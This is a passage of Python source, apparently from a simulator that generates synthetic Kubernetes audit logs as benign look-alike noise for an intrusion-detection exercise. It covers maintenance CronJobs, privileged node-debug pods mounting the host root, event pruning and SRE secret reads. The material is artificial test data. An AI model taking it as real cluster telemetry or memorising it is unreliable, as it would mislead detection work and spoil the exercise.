        for row in t.stages.get("cronjob_runs", {}).get(AUDIT, [])
        if row["ObjectRef"]["resource"] == "pods"
        and "subresource" not in row["ObjectRef"]
        and row["TimeGenerated"] < t.now
    ]


def _event_names(
    t: Intrusion, stage: str, involved: set[str], before: dt.datetime
) -> list[tuple[str, str]]:
    """(namespace, event) of the events about *involved* objects filed in *stage* so far."""
    out = []
    for row in t.stages.get(stage, {}).get(AUDIT, []):
        ref = row.get("ObjectRef", {})
        if ref.get("resource") != "events" or row["TimeGenerated"] >= before:
            continue
        if ref["name"].rsplit(".", 1)[0] in involved:
            out.append((ref["namespace"], ref["name"]))
    return out


# --------------------------------------------------------------------------- look-alikes


def _sre(f: Family) -> k8s._Who:
    """One of the SREs (cluster-admin through the Entra admin group), office or VPN."""
    return k8s._human(env.person(f.rng.choice(k8s._SRES)), f.rng)


def _family_pod_who(account: str, namespace: str, pod: str, agent: str) -> k8s._Who:
    """A service account as seen from one of its pods (a platform job)."""
    return k8s._Who(
        f"system:serviceaccount:{namespace}:{account}",
        k8s._sa_groups(namespace),
        agent,
        (k8s._pod_ip(pod),),
        k8s._rbac(account, account, "ServiceAccount", f"{account}/{namespace}"),
        env.stable_guid("sa", namespace, account),
        pod,
    )


def _job_template(container: dict[str, Any], account: str = "") -> dict[str, Any]:
    spec: dict[str, Any] = {"restartPolicy": "OnFailure", "containers": [container]}
    if account:
        spec["serviceAccountName"] = account
    return {"spec": {"template": {"spec": spec}}}


def _cronjob_manifest(
    name: str, namespace: str, schedule: str, container: dict[str, Any], **meta: Any
) -> dict[str, Any]:
    return {
        "apiVersion": "batch/v1",
        "kind": "CronJob",
        "metadata": k8s._meta(name, namespace, **meta),
        "spec": {
            "schedule": schedule,
            "concurrencyPolicy": "Forbid",
            "jobTemplate": _job_template(container, f"{namespace}-jobs"),
        },
    }


_PIPELINE_JOBS: tuple[tuple[str, str, str, tuple[str, ...]], ...] = (
    (
        "api",
        "report-export",
        "15 4 * * *",
        (
            "/bin/sh",
            "-c",
            "python -m reports.export --since=24h && python -m reports.upload --container reports",
        ),
    ),
    (
        "api",
        "db-backup",
        "0 */6 * * *",
        (
            "/bin/sh",
            "-c",
            'pg_dump --format=custom "$DATABASE_URL" | gzip > /backup/api-$(date +%F-%H%M).dump.gz'
            ' && azcopy copy "/backup/*.gz" "$BACKUP_CONTAINER_URL"',
        ),
    ),
    (
        "api",
        "session-purge",
        "*/30 * * * *",
        ("python", "-m", "sessions", "purge", "--older-than=7d"),
    ),
    (
        "web",
        "sitemap-build",
        "40 2 * * *",
        (
            "/bin/sh",
            "-c",
            "node scripts/sitemap.js > /cache/sitemap.xml && node scripts/notify-search.js",
        ),
    ),
    (
        "web",
        "cache-cleanup",
        "0 * * * *",
        ("/bin/sh", "-c", "find /cache -type f -mmin +1440 -delete"),
    ),
    (
        "monitoring",
        "slo-report",
        "0 6 * * 1",
        (
            "/bin/sh",
            "-c",
            "python /app/slo_report.py --window 7d | tee /reports/slo-$(date +%F).txt",
        ),
    ),
    (
        "api",
        "search-reindex",
        "30 1 * * *",
        (
            "/bin/sh",
            "-c",
            "curl -fsS -X POST http://backend.api.svc.cluster.local:8080/internal/search/reindex"
            " && echo reindex requested",
        ),
    ),
)


def _pipeline_cronjobs(ctx: SimContext) -> Family:
    """The pipeline adds new maintenance CronJobs (kubectl apply or helm) and upgrades the
    existing ones: `sh -c` wrappers around application commands from our registry."""
    f = Family(ctx, CAMPAIGN, "pipeline_cronjobs")
    new = set(f.rng.sample(range(len(_PIPELINE_JOBS)), 3))
    made: set[int] = set()
    for moment in f.times(2, 3):
        f.at(moment)
        index = f.rng.randrange(len(_PIPELINE_JOBS))
        namespace, name, schedule, command = _PIPELINE_JOBS[index]
        helm = f.rng.random() < 0.5
        ci = k8s._ci(f.rng, k8s._HELM if helm else k8s._CI_KUBECTL)
        manager = "fieldManager=helm" if helm else CI_APPLY
        version = f"{f.rng.randint(1, 4)}.{f.rng.randint(0, 14)}.{f.rng.randint(0, 9)}"
        image = f"{k8s._REGISTRY}/{namespace}/{name}:{version}"
        container = {"name": name, "image": image, "command": list(command)}
        path = f"/apis/batch/v1/namespaces/{namespace}/cronjobs"
        if index in new and index not in made:
            made.add(index)
            manifest = _cronjob_manifest(name, namespace, schedule, container, labels={"app": name})
            f.emit(f.name, ci, "get", f"{path}/{name}", code=404)
            f.emit(
                f.name,
                ci,
                "create",
                f"{path}?{manager}",
                after=0.3,
                request=manifest,
                response=created(manifest, f.now),
                code=201,
                name=name,
            )
            continue
        manifest = _cronjob_manifest(name, namespace, schedule, container, labels={"app": name})
        patch = {"spec": {"jobTemplate": _job_template(container)}}
        f.emit(f.name, ci, "get", f"{path}/{name}")
        f.emit(
            f.name,
            ci,
            "patch",
            f"{path}/{name}?{manager}",
            after=0.3,
            request=patch,
            response=k8s._stored(manifest, f.now),
        )
    return f


_ADHOC_CRONJOBS: tuple[tuple[str, str, str, tuple[str, ...]], ...] = (
    (
        "cache-warm",
        "api",
        "curlimages/curl:8.7.1",
        (
            "curl",
            "-fsS",
            "-X",
            "POST",
            "http://backend.api.svc.cluster.local:8080/internal/cache/warm",
        ),
    ),
    (
        "frontend-probe",
        "web",
        "busybox:1.36",
        ("wget", "-qO-", "http://frontend.web.svc.cluster.local/healthz"),
    ),
    (
        "dns-check",
        "default",
        "busybox:1.36",
        (
            "/bin/sh",
            "-c",
            "date; nslookup backend.api.svc.cluster.local; nslookup login.microsoftonline.com",
        ),
    ),
    (
        "db-vacuum",
        "api",
        f"{k8s._REGISTRY}/tools/pgtools:16.2",
        ("/bin/sh", "-c", "psql \"$DATABASE_URL\" -c 'VACUUM (ANALYZE);'"),
    ),
    (
        "prom-health",
        "monitoring",
        "curlimages/curl:8.7.1",
        (
            "/bin/sh",
            "-c",
            "curl -fsS http://prometheus-server.monitoring.svc/-/healthy | grep -q Healthy",
        ),
    ),
    (
        "nodepool-report",
        "kube-system",
        "mcr.microsoft.com/azure-cli:2.61.0",
        (
            "/bin/sh",
            "-c",
            "az login --identity && az aks nodepool list -g rg-aks-prod --cluster-name aks-prod -o table",
        ),
    ),
)
_ADHOC_SCHEDULES = ("*/5 * * * *", "*/15 * * * *", "0 * * * *", "30 7 * * *", "*/30 * * * *")


def _engineer_cronjobs(ctx: SimContext) -> Family:
    """SREs create CronJobs by hand with `kubectl create cronjob` (curl and wget against
    internal services, health-check pings, public images) and delete them later."""
    f = Family(ctx, CAMPAIGN, "engineer_cronjobs")
    pool = [
        *_ADHOC_CRONJOBS,
        (
            "hc-ping",
            f.rng.choice(("api", "web", "monitoring")),
            "curlimages/curl:8.7.1",
            (
                "curl",
                "-fsS",
                "-m",
                "10",
                "--retry",
                "3",
                f"https://hc-ping.com/{env.stable_guid('hc', str(ctx.seed))}",
            ),
        ),
    ]
    f.rng.shuffle(pool)
    for n, moment in enumerate(f.times(2, 3)):
        f.at(moment)
        name, namespace, image, command = pool[n % len(pool)]
        name = name if n < len(pool) else f"{name}-{n // len(pool) + 1}"
        who = _sre(f)
        cronjob = {
            "kind": "CronJob",
            "apiVersion": "batch/v1",
            "metadata": {"name": name, "namespace": namespace, "creationTimestamp": None},
            "spec": {
                "schedule": f.rng.choice(_ADHOC_SCHEDULES),
                "jobTemplate": {
                    "metadata": {"name": name, "creationTimestamp": None},
                    "spec": {
                        "template": {
                            "metadata": {"creationTimestamp": None},
                            "spec": {
                                "containers": [
                                    {
                                        "name": name,
                                        "image": image,
                                        "command": list(command),
                                        "resources": {},
                                    }
                                ],
                                "restartPolicy": "OnFailure",
                            },
                        }
                    },
                },
            },
            "status": {},
        }
        path = f"/apis/batch/v1/namespaces/{namespace}/cronjobs"
        f.emit(
            f.name,
            who,
            "create",
            f"{path}?{KUBECTL_CREATE}",
            request=cronjob,
            response=created(cronjob, f.now),
            code=201,
            name=name,
        )
        if f.rng.random() < 0.6:
            f.wait(1800, 4 * 3600)
            f.emit(
                f.name,
                who,
                "delete",
                f"{path}/{name}",
                request=k8s._delete_options("batch/v1"),
                response=k8s._deleted("cronjobs", name),
            )
    return f


_PLATFORM_CRONJOBS: tuple[tuple[str, str, str, tuple[str, ...]], ...] = (
    (
        "monitoring",
        "event-pruner",
        "docker.io/bitnami/kubectl:1.29.3",
        (
            "/bin/sh",
            "-c",
            "kubectl get events -A --field-selector type=Normal -o name | head -n 500"
            " | xargs -r kubectl delete --ignore-not-found",
        ),
    ),
    (
        "monitoring",
        "prometheus-snapshot",
        "curlimages/curl:8.7.1",
        (
            "/bin/sh",
            "-c",
            "curl -fsS -XPOST http://prometheus-server.monitoring.svc:9090/api/v1/admin/tsdb/snapshot"
            " | grep -q success",
        ),
    ),
    (
        "kube-system",
        "pod-janitor",
        "docker.io/bitnami/kubectl:1.29.3",
        (
            "/bin/sh",
            "-c",
            "kubectl get pods -A --field-selector status.phase=Failed -o name | xargs -r kubectl delete",
        ),
    ),
    (
        "kube-system",
        "cert-expiry-check",
        "mcr.microsoft.com/azure-cli:2.61.0",
        (
            "/bin/sh",
            "-c",
            "az login --identity --allow-no-subscriptions && az keyvault certificate list"
            " --vault-name kv-contoso-prod --query '[].attributes.expires' -o tsv",
        ),
    ),
    (
        "monitoring",
        "blackbox-probe",
        "curlimages/curl:8.7.1",
        (
            "/bin/sh",
            "-c",
            "curl -s -o /dev/null -w '%{http_code}' https://www.contoso.com/ | grep -q 200",
        ),
    ),
)


def _platform_cronjobs(ctx: SimContext) -> Family:
    """The platform chart (helm, from the pipeline) installs and upgrades housekeeping
    CronJobs in kube-system and monitoring: public images, curl piped into grep,
    kubectl piped into xargs."""
    f = Family(ctx, CAMPAIGN, "platform_cronjobs")
    installed = set(f.rng.sample(range(len(_PLATFORM_CRONJOBS)), 2))
    chart = f"platform-jobs-0.{f.rng.randint(8, 14)}.{f.rng.randint(0, 5)}"
    for moment in f.times(2, 3):
        f.at(moment)
        index = f.rng.randrange(len(_PLATFORM_CRONJOBS))
        namespace, name, image, command = _PLATFORM_CRONJOBS[index]
        ci = k8s._ci(f.rng, k8s._HELM)
        container = {"name": name, "image": image, "command": list(command)}
        labels = {"app.kubernetes.io/managed-by": "Helm", "helm.sh/chart": chart}
        manifest = _cronjob_manifest(
            name, namespace, f"{f.rng.randrange(60)} * * * *", container, labels=labels
        )
        path = f"/apis/batch/v1/namespaces/{namespace}/cronjobs"
        if index not in installed:
            installed.add(index)
            f.emit(
                f.name,
                ci,
                "create",
                f"{path}?fieldManager=helm",
                request=manifest,
                response=created(manifest, f.now),
                code=201,
                name=name,
            )
            continue
        f.emit(f.name, ci, "get", f"{path}/{name}")
        f.emit(
            f.name,
            ci,
            "patch",
            f"{path}/{name}?fieldManager=helm",
            after=0.3,
            request={
                "metadata": {"labels": labels},
                "spec": {"jobTemplate": _job_template(container)},
            },
            response=k8s._stored(manifest, f.now),
        )
    return f


def _cronjob_suspends(ctx: SimContext) -> Family:
    """SREs suspend a CronJob during an incident or a migration and resume it later."""
    f = Family(ctx, CAMPAIGN, "cronjob_suspends")
    targets = [("api", c.name) for c in k8s._CRONJOBS] + [
        (namespace, name) for namespace, name, _, _ in _PIPELINE_JOBS
    ]
    for moment in f.times(1, 2):
        f.at(moment)
        who = _sre(f)
        namespace, name = f.rng.choice(targets)
        path = f"/apis/batch/v1/namespaces/{namespace}/cronjobs/{name}"
        for suspend in (True, False):
            f.emit(
                f.name,
                who,
                "patch",
                f"{path}?{_KUBECTL_PATCH}",
                request={"spec": {"suspend": suspend}},
                response=k8s._TOO_BIG,
            )
            f.wait(1200, 3 * 3600)
    return f


#: Privileged and host-path add-on DaemonSets whose pods the controller replaces.
_ADDON_SHAPES: dict[str, k8s._PodShape] = {
    "kube-proxy": k8s._DAEMONSET_SHAPES["kube-proxy"],
    "ama-logs": k8s._DAEMONSET_SHAPES["ama-logs"],
    "csi-azuredisk-node": k8s._PodShape(
        "csi-azuredisk-node-sa",
        f"{k8s._MCR}/oss/kubernetes-csi/azuredisk-csi:v1.29.5",
        (
            "/azurediskplugin",
            "--v=5",
            "--endpoint=unix:///csi/csi.sock",
            "--nodeid=$(KUBE_NODE_NAME)",
        ),
        privileged=True,
        host_network=True,
        host_paths=(
            ("socket-dir", "/var/lib/kubelet/plugins/disk.csi.azure.com", "/csi"),
            ("mountpoint-dir", "/var/lib/kubelet", "/var/lib/kubelet"),
            ("device-dir", "/dev", "/dev"),
            ("sys-class", "/sys/class", "/sys/class"),
        ),
        container="azuredisk",
    ),
    "azure-cns": k8s._PodShape(
        "azure-cns",
        f"{k8s._MCR}/containernetworking/azure-cns:v1.5.32",
        ("/usr/local/bin/azure-cns", "-c", "tcp://$(CNSIpAddress):$(CNSPort)"),
        privileged=True,
        host_network=True,
        host_paths=(
            ("azure-endpoints", "/var/run/azure-cns/", "/var/run/azure-cns/"),
            ("cni-bin", "/opt/cni/bin", "/opt/cni/bin"),
            ("log", "/var/log", "/var/log"),
        ),
        container="cns-container",
    ),
    "cloud-node-manager": k8s._PodShape(
        "cloud-node-manager",
        f"{k8s._MCR}/oss/kubernetes/azure-cloud-node-manager:v1.29.8",
        ("cloud-node-manager", "--node-name=$(NODE_NAME)", "--wait-routes=true"),
        host_network=True,
        container="cloud-node-manager",
    ),
}


def _addon_pod_replacements(ctx: SimContext) -> Family:
    """The DaemonSet controller replaces a privileged add-on pod on one node (evicted,
    crashed, or its node restarted): host namespaces and host paths, through a controller."""
    f = Family(ctx, CAMPAIGN, "addon_pod_replacements")
    controller = k8s._CALLERS["ctrl:daemon-set-controller"][0]
    for moment in f.times(1, 3, office=False):
        f.at(moment)
        key = f.rng.choice(sorted(_ADDON_SHAPES))
        addon = k8s._ADDON_BY_KEY[key]
        node = f.rng.randrange(len(k8s._NODES))
        old = dict((n, p) for p, n in f.day().addon_pods(addon, moment))[node]
        f.day().pod_status(node, addon.namespace, old, f.now, ready=False)
        f.wait(5, 40)
        f.emit(
            f.name,
            controller,
            "delete",
            f"/api/v1/namespaces/{addon.namespace}/pods/{old}",
            request=k8s._delete_options(),
            response=k8s._deleted("pods", old),
        )
        new = k8s._daemon_pod(key, k8s._NODES[node], f"replaced-{ctx.seed}-{k8s._ts(moment, True)}")
        f.wait(1, 5)
        f.day().create_pod(
            controller,
            _ADDON_SHAPES[key],
            new,
            addon.namespace,
            node,
            k8s._owner("DaemonSet", key, "apps/v1"),
            {"app": key, "controller-revision-hash": k8s._suffix(10, key, "current")},
            f.now,
        )
        f.file(f.name)
    return f


_DEBUG_IMAGES = (
    "mcr.microsoft.com/cbl-mariner/busybox:2.0",
    "ubuntu",
    "ubuntu:22.04",
    "docker.io/nicolaka/netshoot:v0.12",
    "mcr.microsoft.com/dotnet/runtime-deps:8.0",
)


def _node_debug_pods(ctx: SimContext) -> Family:
    """SREs debug a node with `kubectl debug node/<node> -it --image=...`: a bare pod in
    default with the host's namespaces and root filesystem (privileged with the sysadmin
    profile), attached to, then deleted."""
    f = Family(ctx, CAMPAIGN, "node_debug_pods")
    for moment in f.times(1, 2):
        f.at(moment)
        who = _sre(f)
        node = f.rng.randrange(len(k8s._NODES))
        name = f"node-debugger-{k8s._NODES[node]}-{k8s._suffix(5, f.name, k8s._ts(moment, True))}"
        container: dict[str, Any] = {
            "name": "debugger",
            "image": f.rng.choice(_DEBUG_IMAGES),
            "resources": {},
            "volumeMounts": [{"name": "host-root", "mountPath": "/host"}],
            "terminationMessagePolicy": "File",
            "stdin": True,
            "tty": True,
        }
        if f.rng.random() < 0.4:
            container["securityContext"] = {"privileged": True}
        pod = {
            "kind": "Pod",
            "apiVersion": "v1",
            "metadata": {"name": name, "namespace": "default", "creationTimestamp": None},
            "spec": {
                "volumes": [{"name": "host-root", "hostPath": {"path": "/", "type": ""}}],
                "containers": [container],
                "restartPolicy": "Never",
                "nodeName": k8s._NODES[node],
                "hostNetwork": True,
                "hostPID": True,
                "hostIPC": True,
                "tolerations": [{"operator": "Exists"}],
            },
            "status": {},
        }
        _bare_pod_session(f, who, pod, node, "/api/v1/namespaces/default/pods")
    return f


def _bare_pod_session(f: Family, who: k8s._Who, pod: dict[str, Any], node: int, uri: str) -> None:
    """An engineer's bare pod: created, started, attached to, deleted when done."""
    name, namespace = pod["metadata"]["name"], pod["metadata"]["namespace"]
    f.emit(
        f.name,
        who,
        "create",
        uri,
        request=pod,
        response=created(pod, f.now),
        code=201,
        name=name,
        notes={"pod-security.kubernetes.io/enforce-policy": "privileged:latest"},
    )
    f.pod_start(f.name, pod, node)
    core = f"/api/v1/namespaces/{namespace}/pods/{name}"
    f.emit(f.name, who, "get", core, after=2)
    container = pod["spec"]["containers"][0]["name"]
    f.emit(
        f.name,
        who,
        "create",
        f"{core}/attach?container={container}&stdin=true&stdout=true&tty=true",
        after=1,
        code=101,
        stage="ResponseStarted",
    )
    f.wait(120, 2400)
    f.emit(
        f.name,
        who,
        "delete",
        core,
        request=k8s._delete_options(),
        response=k8s._deleted("pods", name),
    )


_TROUBLESHOOTING = (
    (
        "netshoot",
        "docker.io/nicolaka/netshoot:v0.12",
        ("tcpdump", "-ni", "eth0", "-c", "2000", "port", "53"),
    ),
    ("iperf", "docker.io/nicolaka/netshoot:v0.12", ("iperf3", "-s", "-p", "5201")),
    (
        "mtr",
        "docker.io/nicolaka/netshoot:v0.12",
        ("mtr", "-rwc", "50", "login.microsoftonline.com"),
    ),
    ("conntrack", "mcr.microsoft.com/cbl-mariner/base/core:2.0", ("sh",)),
)


def _sre_host_network_pods(ctx: SimContext) -> Family:
    """SREs run throw-away troubleshooting pods on a node's network (`kubectl run --rm -it
    --overrides` with hostNetwork, privileged to capture packets)."""
    f = Family(ctx, CAMPAIGN, "sre_host_network_pods")
    used: set[str] = set()
    for moment in f.times(1, 2):
        f.at(moment)
        who = _sre(f)
        base, image, command = f.rng.choice(_TROUBLESHOOTING)
        name = f"{base}-{who.username.split('.')[0]}"
        if name in used:
            name = f"{name}-{len(used) + 1}"
        used.add(name)
        namespace = f.rng.choice(("default", "default", "kube-system"))
        node = f.rng.randrange(len(k8s._NODES))
        container: dict[str, Any] = {
            "name": name,
            "image": image,
            "args": list(command),
            "resources": {},
            "stdin": True,
            "stdinOnce": True,
            "tty": True,
        }
        if base in ("netshoot", "conntrack") or f.rng.random() < 0.3:
            container["securityContext"] = {"privileged": True}
        pod = {
            "kind": "Pod",
            "apiVersion": "v1",
            "metadata": {
                "name": name,
                "namespace": namespace,
                "creationTimestamp": None,
                "labels": {"run": name},
            },
            "spec": {
                "containers": [container],
                "restartPolicy": "Never",
                "dnsPolicy": "ClusterFirstWithHostNet",
                "hostNetwork": True,
                "nodeName": k8s._NODES[node],
            },
            "status": {},
        }
        _bare_pod_session(
            f,
            who,
            pod,
            node,
            f"/api/v1/namespaces/{namespace}/pods?fieldManager=kubectl-run",
        )
    return f


#: Service accounts with a workload identity: (namespace, account, its managed identity).
_IDENTITY_ACCOUNTS = (
    (BACKEND.namespace, BACKEND.name, "id-api-prod"),
    (FRONTEND.namespace, FRONTEND.name, "id-web-prod"),
    ("api", "api-jobs", "id-aks-workload"),
    ("monitoring", "prometheus-server", "id-aks-workload"),
)


def _identity_account(namespace: str, account: str, identity: str) -> dict[str, Any]:
    return {
        "kind": "ServiceAccount",
        "apiVersion": "v1",
        "metadata": k8s._meta(
            account,
            namespace,
            labels={"azure.workload.identity/use": "true"},
            annotations={
                WORKLOAD_IDENTITY: env.application(identity).app_id,
                TENANT_ANNOTATION: _TENANT,
            },
        ),
    }


def _pipeline_identity_annotations(ctx: SimContext) -> Family:
    """Releases (helm or kubectl apply) set the workload-identity annotations of the
    application service accounts."""
    f = Family(ctx, CAMPAIGN, "pipeline_identity_annotations")
    for moment in f.times(2, 3):
        f.at(moment)
        helm = f.rng.random() < 0.6
        ci = k8s._ci(f.rng, k8s._HELM if helm else k8s._CI_KUBECTL)
        namespace, account, identity = f.rng.choice(_IDENTITY_ACCOUNTS)
        path = f"/api/v1/namespaces/{namespace}/serviceaccounts/{account}"
        full = _identity_account(namespace, account, identity)
        patch = {"metadata": {"annotations": full["metadata"]["annotations"]}}
        if f.rng.random() < 0.5:
            patch["metadata"]["labels"] = full["metadata"]["labels"]
        f.emit(f.name, ci, "get", path)
        f.emit(
            f.name,
            ci,
            "patch",
            f"{path}?{'fieldManager=helm' if helm else CI_APPLY}",
            after=0.3,
            request=patch,
            response=k8s._stored(full, f.now),
        )
    return f


_SA_EDITS: tuple[tuple[str, str, dict[str, Any]], ...] = (
    (
        "label",
        "fieldManager=kubectl-label",
        {"metadata": {"labels": {"azure.workload.identity/use": "true"}}},
    ),
    (
        "annotate",
        _KUBECTL_ANNOTATE,
        {"metadata": {"annotations": {"contoso.com/owner": "team-platform"}}},
    ),
    (
        "annotate",
        _KUBECTL_ANNOTATE,
        {"metadata": {"annotations": {"contoso.com/oncall": "sre-primary"}}},
    ),
    ("pull-secret", _KUBECTL_PATCH, {"imagePullSecrets": [{"name": "acr-pull"}]}),
    ("automount", _KUBECTL_PATCH, {"automountServiceAccountToken": False}),
)
_EDITED_ACCOUNTS = (
    ("web", "frontend"),
    ("api", "backend"),
    ("api", "api-jobs"),
    ("monitoring", "prometheus-server"),
    ("default", "default"),
    ("web", "default"),
)


def _engineer_sa_edits(ctx: SimContext) -> Family:
    """SREs label, annotate and patch service accounts by hand (ownership, pull secrets,
    token automount, the workload-identity `use` label) and delete leftovers."""
    f = Family(ctx, CAMPAIGN, "engineer_sa_edits")
    for moment in f.times(2, 3):
        f.at(moment)
        who = _sre(f)
        namespace, account = f.rng.choice(_EDITED_ACCOUNTS)
        path = f"/api/v1/namespaces/{namespace}/serviceaccounts/{account}"
        if f.rng.random() < 0.2:
            leftover = f.rng.choice(("debug-sa", "tmp-reader", "load-test", "migration-runner"))
            f.emit(
                f.name,
                who,
                "delete",
                f"/api/v1/namespaces/{namespace}/serviceaccounts/{leftover}",
                request=k8s._delete_options(),
                response=k8s._deleted("serviceaccounts", leftover),
            )
            continue
        _, manager, patch = f.rng.choice(_SA_EDITS)
        stored = {
            "kind": "ServiceAccount",
            "apiVersion": "v1",
            "metadata": k8s._meta(account, namespace),
            **{k: v for k, v in patch.items() if k != "metadata"},
        }
        f.emit(f.name, who, "get", path)
        f.emit(
            f.name,
            who,
            "patch",
            f"{path}?{manager}",
            after=0.3,
            request=patch,
            response=k8s._stored(stored, f.now),
        )
    return f


_ADDON_ACCOUNTS = (
    "coredns",
    "konnectivity-agent",
    "metrics-server",
    "azure-policy",
    "ama-logs",
    "cloud-node-manager",
    "azure-cns",
    "csi-azuredisk-node-sa",
)


def _addon_sa_reconcile(ctx: SimContext) -> Family:
    """AKS's reconciler re-applies the labels of add-on service accounts in kube-system."""
    f = Family(ctx, CAMPAIGN, "addon_sa_reconcile")
    aks = k8s._CALLERS["aks-rp"][0]
    labels = {
        "addonmanager.kubernetes.io/mode": "Reconcile",
        "kubernetes.azure.com/managedby": "aks",
    }
    for moment in f.times(1, 2, office=False):
        f.at(moment)
        for account in f.rng.sample(_ADDON_ACCOUNTS, f.rng.randint(2, 4)):
            stored = {
                "kind": "ServiceAccount",
                "apiVersion": "v1",
                "metadata": k8s._meta(account, "kube-system", labels=labels),
            }
            f.emit(
                f.name,
                aks,
                "patch",
                f"/api/v1/namespaces/kube-system/serviceaccounts/{account}",
                after=0.4,
                request={"metadata": {"labels": labels}},
                response=k8s._stored(stored, f.now),
            )
    return f


def _preview_namespace_teardown(ctx: SimContext) -> Family:
    """Pull-request preview namespaces: created by the pipeline, deleted when the pull
    request closes; the namespace controller deletes their events and everything else."""
    f = Family(ctx, CAMPAIGN, "preview_namespace_teardown")
    cleaner = k8s._CALLERS["ctrl:namespace-controller"][0]
    for moment in f.times(1, 2):
        f.at(moment)
        ci = k8s._ci(f.rng, k8s._CI_KUBECTL)
        namespace = f"preview-pr-{f.rng.randint(1200, 1999)}"
        ns_object = {
            "kind": "Namespace",
            "apiVersion": "v1",
            "metadata": k8s._meta(namespace, labels={"contoso.com/preview": "true"}),
        }
        f.emit(
            f.name,
            ci,
            "create",
            "/api/v1/namespaces",
            request=ns_object,
            response=created(ns_object, f.now),
            code=201,
            name=namespace,
        )
        f.emit(
            f.name,
            k8s._CALLERS["ctrl:service-account-controller"][0],
            "create",
            f"/api/v1/namespaces/{namespace}/serviceaccounts",
            after=0.1,
            code=201,
            name="default",
            request={
                "kind": "ServiceAccount",
                "apiVersion": "v1",
                "metadata": k8s._meta("default", namespace),
            },
        )
        f.wait(3600, 4 * 3600)
        f.emit(
            f.name,
            ci,
            "delete",
            f"/api/v1/namespaces/{namespace}",
            request=k8s._delete_options(),
            response=k8s._TOO_BIG,
        )
        for resource in ("events", "pods", "configmaps", "serviceaccounts", "secrets"):
            f.emit(
                f.name,
                cleaner,
                "deletecollection",
                f"/api/v1/namespaces/{namespace}/{resource}",
                after=0.3,
                request=k8s._delete_options(),
            )
        f.emit(
            f.name,
            cleaner,
            "update",
            f"/api/v1/namespaces/{namespace}/finalize",
            after=3,
            request={
                "kind": "Namespace",
                "apiVersion": "v1",
                "metadata": k8s._meta(namespace),
                "spec": {"finalizers": []},
            },
            response=k8s._TOO_BIG,
        )
    return f


def _event_pruner(ctx: SimContext) -> Family:
    """The platform's event pruner (a CronJob in monitoring with its own account) deletes
    old events one by one."""
    f = Family(ctx, CAMPAIGN, "event_pruner")
    for moment in f.times(2, 4, office=False):
        f.at(moment)
        pod = f"event-pruner-{int(moment.timestamp() // 60)}-{k8s._suffix(5, f.name, str(ctx.seed), k8s._ts(moment))}"
        who = _family_pod_who("event-pruner", "monitoring", pod, k8s._CI_KUBECTL)
        f.emit(f.name, who, "list", "/api/v1/events?fieldSelector=type%3DNormal&limit=500")
        for _ in range(f.rng.randint(2, 5)):
            app = f.rng.choice(k8s._APPS)
            if f.rng.random() < 0.5:
                target, namespace = f.rng.choice(f.day().pods(app, f.now)), app.namespace
            else:
                target, _, addon = f.day().system_pod(f.rng, f.now)
                namespace = addon.namespace
            event = f"{target}.{env.stable_hex(16, target, k8s._ts(f.now, True))}"
            f.emit(
                f.name,
                who,
                "delete",
                f"/api/v1/namespaces/{namespace}/events/{event}",
                after=0.5,
                request=k8s._delete_options(),
                response=k8s._deleted("events", event),
            )
    return f


def _job_pods_before(ctx: SimContext, moment: dt.datetime) -> list[str]:
    """The background CronJobs' pods (in api) that ran before *moment*."""
    pods = []
    for day in range((moment - ctx.start).days + 1):
        for cronjob in k8s._CRONJOBS:
            if day < cronjob.first_day:
                continue
            for hour in cronjob.hours:
                scheduled = ctx.day_start(day) + dt.timedelta(hours=hour, minutes=cronjob.minute)
                if scheduled < moment:
                    job = f"{cronjob.name}-{int(scheduled.timestamp() // 60)}"
                    pods.append(f"{job}-{k8s._suffix(5, str(ctx.seed), job)}")
    return pods


def _pod_janitor(ctx: SimContext) -> Family:
    """The platform's pod janitor (kube-system) clears the events of finished Job pods,
    one field-selected collection per pod."""
    f = Family(ctx, CAMPAIGN, "pod_janitor")
    for moment in f.times(2, 4, office=False):
        f.at(moment)
        finished = _job_pods_before(ctx, moment)
        if not finished:
            continue
        pod = f"pod-janitor-{int(moment.timestamp() // 60)}-{k8s._suffix(5, f.name, str(ctx.seed), k8s._ts(moment))}"
        who = _family_pod_who("pod-janitor", "kube-system", pod, k8s._CI_KUBECTL)
        f.emit(
            f.name,
            who,
            "list",
            "/api/v1/namespaces/api/pods?fieldSelector=status.phase%3DSucceeded",
        )
        for target in f.rng.sample(finished, min(len(finished), f.rng.randint(1, 3))):
            f.emit(
                f.name,
                who,
                "deletecollection",
                k8s._with_params(
                    "/api/v1/namespaces/api/events", fieldSelector=f"involvedObject.name={target}"
                ),
                after=0.4,
                request=k8s._delete_options(),
            )
    return f


#: Secrets of the namespaces engineers look after.
_NAMESPACE_SECRETS = {
    "web": (FRONTEND.secret, "frontend-tls", "web-feature-flags"),
    "api": (BACKEND.secret, "backend-redis", "api-jobs-storage"),
    "monitoring": ("prometheus-server-remote-write", "alertmanager-webhook", "grafana-admin"),
}


def _engineer_secret_reads(ctx: SimContext) -> Family:
    """SREs read individual secrets of the namespace they look after (`kubectl get secret
    <name> -o yaml`) while debugging."""
    f = Family(ctx, CAMPAIGN, "engineer_secret_reads")
    home = {alias: f.rng.choice(sorted(_NAMESPACE_SECRETS)) for alias in k8s._SRES}
    for moment in f.times(1, 3):
        f.at(moment)
        alias = f.rng.choice(k8s._SRES)
        who = k8s._human(env.person(alias), f.rng)
        namespace = home[alias]
        for secret in f.rng.sample(_NAMESPACE_SECRETS[namespace], f.rng.randint(2, 3)):
            f.emit(
                f.name,
                who,
                "get",
                f"/api/v1/namespaces/{namespace}/secrets/{secret}",
                after=f.rng.uniform(5, 200),
            )
    return f


_ADDON_SECRETS = (
    ("gatekeeper-controller", "gatekeeper-webhook-server-cert"),
    ("gatekeeper-audit", "gatekeeper-webhook-server-cert"),
    ("ama-logs", "ama-logs-secret"),
    ("ama-logs-rs", "ama-logs-secret"),
    ("azure-policy", "azure-policy-webhook-cert"),
    ("konnectivity-agent", "konnectivity-agent-certs"),
    ("prometheus-server", "prometheus-server-remote-write"),
)


def _addon_secret_reads(ctx: SimContext) -> Family:
    """Add-ons read their own secrets by name, in their own namespace."""
    f = Family(ctx, CAMPAIGN, "addon_secret_reads")
    for moment in f.times(3, 6, office=False):
        f.at(moment)
        key, secret = f.rng.choice(_ADDON_SECRETS)
        who = f.rng.choice(f.day().addon_callers(key, moment))
        namespace = k8s._ADDON_BY_KEY[key].namespace
        f.emit(f.name, who, "get", f"/api/v1/namespaces/{namespace}/secrets/{secret}")
    return f


def _pipeline_secret_reads(ctx: SimContext) -> Family:
    """The release pipeline checks the secrets of the applications it ships, in both
    application namespaces within a few minutes."""
    f = Family(ctx, CAMPAIGN, "pipeline_secret_reads")
